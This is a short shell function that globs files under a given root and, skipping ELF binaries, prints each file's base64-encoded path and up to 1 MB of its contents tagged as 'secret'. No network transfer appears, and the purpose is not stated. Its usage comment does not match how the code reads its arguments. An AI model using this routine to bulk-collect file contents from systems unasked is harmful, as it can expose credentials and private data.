# Files, by patterns of the shell. Given, as an argument of each call: the root below which they are, the pattern.

# files NUMBER ROOT PATTERN
files() {
    printf 'pattern %s\n' "$1"
    root=$2
    IFS=
    # shellcheck disable=SC2086
    for file in $2$3; do
        # A script may be named by the program that runs it.
        if [ -f "$file" ] && [ "$(head -c 4 "$file" | tail -c 3)" != ELF ]; then
            printf 'path %s\n' "$(printf '%s' "${file#"$root"}" | base64 -w 0)"
            printf 'secret %s\n' "$(head -c 1000000 "$file" | base64 -w 0)"
        fi
    done
}
